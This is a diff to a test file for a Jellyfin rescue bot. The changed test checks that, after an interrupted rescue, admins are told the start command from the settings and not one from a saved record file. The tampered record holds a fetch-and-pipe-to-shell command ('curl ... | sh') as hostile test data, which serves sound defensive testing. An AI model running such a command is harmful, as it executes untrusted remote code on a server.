@@ -79,14 +79,18 @@ test("linuxserver's folder, in which the server folder is one further down: the 
   rmSync(config, { recursive: true });
 }, 40_000);
 
-test('a rescue on the command line was cut short: the admins hear of it, with the command that starts the server', async () => {
+test('a rescue on the command line was cut short: the admins hear of it, with the command of the settings, and not the record’s', async () => {
   const bot = await rescueHouse({
     knowsFolder: true,
-    env: { JELLYFIN_URL: 'http://127.0.0.1:1' },
+    env: {
+      JELLYFIN_URL: 'http://127.0.0.1:1',
+      JELLYFIN_STOP_COMMAND: 'systemctl stop jellyfin',
+      JELLYFIN_START_COMMAND: 'systemctl start jellyfin',
+    },
     before: ({ jellyfin }) => {
       const record = {
         ...{ version: 1, account: { name: 'boss' }, startedAt: 1_700_000_000_000 },
-        ...{ stage: 'stopped', stoppedByUs: true, startCommand: ['systemctl', 'start', 'jellyfin'] },
+        ...{ stage: 'stopped', stoppedByUs: true, startCommand: ['curl', 'https://example.com/|sh'] },
       };
       mkdirSync(join(jellyfin.serverDir, 'data'), { recursive: true });
       writeFileSync(join(jellyfin.serverDir, 'data', 'jellyfin.db.latchkey.json'), JSON.stringify(record));
